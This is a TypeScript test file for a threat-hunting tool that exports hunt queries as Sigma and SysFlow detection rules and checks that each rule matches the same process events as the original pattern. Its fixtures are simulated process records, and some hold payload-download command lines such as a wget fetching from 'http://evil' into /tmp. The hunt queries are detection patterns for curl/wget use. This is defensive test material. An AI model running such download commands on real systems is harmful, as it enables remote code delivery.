/**
 * Promoting a hunt to a detection. Fixture cases (`export/*.txt`): a huntflow → the Sigma rule of each GET and its
 * SysFlow policy rule, or the positioned error. Round trip: for each hunt, the exported rule read back through the
 * engine matches exactly the ECS documents whose own process the GET's pattern selects (the STIX object predicate
 * on the document's process object), over the regression process creations and Linux processes.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { runExport } from '../../src/cli/sigma/export.ts';
import { readWindowsEvents } from '../../src/connectors/windows/index.ts';
import { windowsToEcs } from '../../src/connectors/windows/ecs/index.ts';
import { isPeregrineError } from '../../src/errors/index.ts';
import { parseHuntflow, type Get } from '../../src/hunt/syntax/index.ts';
import { toObservation } from '../../src/mapping/index.ts';
import { compileRule, ecsEvent, EventView, parseRule, stixToSigma } from '../../src/sigma/index.ts';
import { compileObjectPredicate, type ComparisonExpr, type Pattern } from '../../src/stix/index.ts';
import { compilePolicies } from '../../src/telemetry/sysflow/policy/index.ts';
import { SIGMA_DATA } from '../support/data.ts';
import { runCases } from '../support/fixtures.ts';

const dir = mkdtempSync(join(tmpdir(), 'peregrine-sigma-export-'));

runCases(join(import.meta.dirname, 'export'), (input, c) => {
  const product = c.name.startsWith('windows') ? 'windows' : 'linux';
  const file = join(dir, 'hunt.hf');
  writeFileSync(file, input);
  const out: string[] = [];
  try {
    runExport(file, {
      product,
      id: '00000000-0000-4000-8000-000000000000',
      date: '2026-01-01',
      out: (t) => out.push(t.trimEnd()),
      note: (t) => out.push(`note: ${t}`),
    });
  } catch (e) {
    if (!isPeregrineError(e)) throw e;
    out.push(`${e.span?.line}:${e.span?.col} ${e.code} ${e.message}`);
  }
  return out.join('\n').replaceAll(file, 'hunt.hf');
});

function linuxDocs(): Record<string, unknown>[] {
  const procs: [string, string, string][] = [
    ['/usr/bin/curl', '/usr/bin/curl -s http://10.0.0.5/x.sh', '/usr/bin/node'],
    ['/usr/bin/wget', 'wget -q http://evil/p -O /tmp/p', '/usr/bin/node'],
    ['/usr/bin/bash', 'bash -c id', '/usr/bin/node'],
    ['/usr/bin/ls', 'ls -la /tmp', '/usr/bin/bash'],
    ['/usr/bin/CURL', 'CURL http://x', '/usr/bin/Node'],
    ['/opt/node/bin/node', 'node server.js', '/usr/lib/systemd/systemd'],
  ];
  return procs.map(([exe, cl, parent], i) => ({
    process: {
      executable: exe,
      name: exe.slice(exe.lastIndexOf('/') + 1),
      command_line: cl,
      pid: 100 + i,
      parent: { executable: parent, name: parent.slice(parent.lastIndexOf('/') + 1), pid: 10 + i },
    },
  }));
}

async function windowsDocs(): Promise<Record<string, unknown>[]> {
  const out: Record<string, unknown>[] = [];
  const walk = async (d: string): Promise<void> => {
    for (const n of readdirSync(d).sort()) {
      const p = join(d, n);
      if (statSync(p).isDirectory()) await walk(p);
      else if (n.endsWith('.json'))
        for await (const e of readWindowsEvents(p))
          if (e.EventID === 1) out.push(windowsToEcs(e).doc as Record<string, unknown>);
    }
  };
  await walk(join(SIGMA_DATA, 'regression_data', 'rules', 'windows', 'process_creation'));
  return out;
}

const HUNTS: [string, string][] = [
  [
    'linux',
    "a = GET process FROM x WHERE [process:parent_ref.name = 'node' AND process:command_line LIKE '%http%']",
  ],
  [
    'linux',
    "a = GET process FROM x WHERE [process:name IN ('curl', 'wget') OR process:command_line MATCHES '^bash -c']",
  ],
  ['linux', "a = GET process FROM x WHERE [process:name != 'ls' AND process:pid >= 102]"],
  [
    'windows',
    "a = GET process FROM x WHERE [process:name = 'powershell.exe' AND process:command_line NOT LIKE '%-NoProfile%']",
  ],
  [
    'windows',
    "a = GET process FROM x WHERE [process:command_line LIKE '%reg%add%' OR process:parent_ref.name = 'cmd.exe']",
  ],
  ['windows', "a = GET process FROM x WHERE name = 'rundll32.exe' OR command_line MATCHES '(?i)http'"],
];

test('round trip: the exported rule matches exactly what the GET pattern selects', async () => {
  const docs = { linux: linuxDocs(), windows: await windowsDocs() };
  assert.ok(docs.windows.length > 80);
  for (const [product, hunt] of HUNTS) {
    const flow = parseHuntflow(hunt);
    const g = flow.statements[0] as Get;
    const w = g.where!;
    const expr = w.kind === 'StixWhere' ? (w.pattern.expr as { expr: ComparisonExpr }).expr : w.expr;
    const pattern =
      w.kind === 'StixWhere'
        ? w.pattern
        : {
            kind: 'Pattern' as const,
            expr: { kind: 'Observation' as const, expr: w.expr, span: w.expr.span },
            source: hunt.slice(w.expr.span.start, w.expr.span.end),
            span: w.expr.span,
          };
    const text = stixToSigma(pattern, 'process', { product, title: 'rt' }).text;
    const rule = compileRule(parseRule(text), { target: 'ecs' });
    const own = compileObjectPredicate(expr, { source: 'hunt', text: hunt });
    let hits = 0;
    for (const doc of docs[product as 'linux' | 'windows']) {
      const obs = toObservation(doc, 'observed-data--1');
      const proc = Object.values(obs.objects).find(
        (o) => o.type === 'process' && o.pid === (doc.process as { pid: unknown }).pid,
      )!;
      const want = own(proc, obs.objects);
      assert.equal(
        rule.predicate(new EventView(ecsEvent(doc))),
        want,
        `${hunt}\n${text}\n${JSON.stringify(doc.process)}`,
      );
      if (want) hits++;
    }
    assert.ok(hits > 0, `${hunt} selects nothing`);
  }
});

test('the SysFlow policy rule of an export loads without problems', () => {
  const g = parseHuntflow(HUNTS[1][1]).statements[0] as Get;
  const text = stixToSigma((g.where as { pattern: Pattern }).pattern, 'process', { title: 'rt' }).text;
  const engine = compilePolicies([{ path: 'rt.yml', text }]);
  assert.deepEqual(engine.problems, []);
  assert.deepEqual(engine.notes, []);
  assert.equal(engine.rules.length, 1);
});
